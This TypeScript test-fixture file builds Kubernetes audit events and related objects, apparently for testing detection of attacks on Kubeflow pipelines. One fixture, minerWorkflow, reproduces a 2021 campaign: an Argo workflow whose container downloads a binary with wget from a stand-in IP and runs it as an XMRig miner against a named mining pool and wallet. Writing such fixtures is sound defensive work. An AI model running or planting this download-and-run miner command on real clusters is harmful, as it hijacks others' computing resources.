// Builders for audit.k8s.io/v1 Events shaped as the API server writes them (field names and
// nesting from k8s.io/apiserver/pkg/apis/audit/v1/types.go, as in ../shared/schemas/audit samples).
let counter = 0;

export interface EventSpec {
  readonly verb: string;
  readonly user?: string;
  readonly groups?: readonly string[];
  readonly resource: string;
  readonly subresource?: string;
  readonly namespace?: string;
  readonly name?: string;
  readonly apiGroup?: string;
  readonly apiVersion?: string;
  readonly requestObject?: unknown;
  readonly responseObject?: unknown;
  readonly code?: number;
  readonly at?: string;
  readonly stage?: string;
  readonly auditID?: string;
  readonly userAgent?: string;
  readonly sourceIP?: string;
  readonly requestURI?: string;
}

export function auditEvent(spec: EventSpec): Record<string, unknown> {
  counter++;
  const at = spec.at ?? '2026-01-05T10:00:00.000000Z';
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: spec.auditID ?? `00000000-0000-4000-8000-${String(counter).padStart(12, '0')}`,
    stage: spec.stage ?? 'ResponseComplete',
    requestURI: spec.requestURI ?? `/api/v1/${spec.namespace ? `namespaces/${spec.namespace}/` : ''}${spec.resource}${spec.name ? `/${spec.name}` : ''}`,
    verb: spec.verb,
    user: { username: spec.user ?? 'mallory@example.com', groups: spec.groups ?? ['system:authenticated'] },
    sourceIPs: [spec.sourceIP ?? '203.0.113.50'],
    userAgent: spec.userAgent ?? 'kubectl/v1.30.0 (linux/amd64) kubernetes/abcdef0',
    objectRef: {
      resource: spec.resource,
      ...(spec.subresource ? { subresource: spec.subresource } : {}),
      ...(spec.namespace ? { namespace: spec.namespace } : {}),
      ...(spec.name ? { name: spec.name } : {}),
      ...(spec.apiGroup ? { apiGroup: spec.apiGroup } : {}),
      apiVersion: spec.apiVersion ?? 'v1',
    },
    responseStatus: { metadata: {}, code: spec.code ?? (spec.verb === 'create' ? 201 : 200) },
    ...(spec.requestObject !== undefined ? { requestObject: spec.requestObject } : {}),
    ...(spec.responseObject !== undefined ? { responseObject: spec.responseObject } : {}),
    requestReceivedTimestamp: at,
    stageTimestamp: at,
    annotations: { 'authorization.k8s.io/decision': spec.code === 403 ? 'forbid' : 'allow', 'authorization.k8s.io/reason': '' },
  };
}

export const jsonLines = (events: readonly unknown[]): string => `${events.map((e) => JSON.stringify(e)).join('\n')}\n`;

export const gatewayService = (type: string): Record<string, unknown> => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name: 'istio-ingressgateway', namespace: 'istio-system', labels: { app: 'istio-ingressgateway', istio: 'ingressgateway' } },
  spec: { type, selector: { app: 'istio-ingressgateway', istio: 'ingressgateway' }, ports: [{ name: 'http2', port: 80, targetPort: 8080 }] },
});

/** A KFP v1 step as the 2021 campaign ran it: a clean TensorFlow image that downloads and runs a miner. */
export const minerWorkflow = (namespace: string): Record<string, unknown> => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Workflow',
  metadata: { name: 'sequential-pipeline-x7k2p', namespace, labels: { 'pipelines.kubeflow.org/kfp_sdk_version': '1.8.22' } },
  spec: {
    entrypoint: 'main',
    serviceAccountName: 'default-editor',
    templates: [
      {
        name: 'main',
        container: {
          image: 'tensorflow/tensorflow:latest-gpu',
          command: ['sh', '-c'],
          args: ['wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'],
        },
      },
    ],
  },
});

export const pipelinePod = (namespace: string, name: string, serviceAccountName = 'default-editor'): Record<string, unknown> => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name, namespace, labels: { 'workflows.argoproj.io/workflow': 'sequential-pipeline-x7k2p', 'pipelines.kubeflow.org/cache_enabled': 'true' } },
  spec: { serviceAccountName, containers: [{ name: 'main', image: 'python:3.11', command: ['python', '-c', 'print(1)'] }] },
});
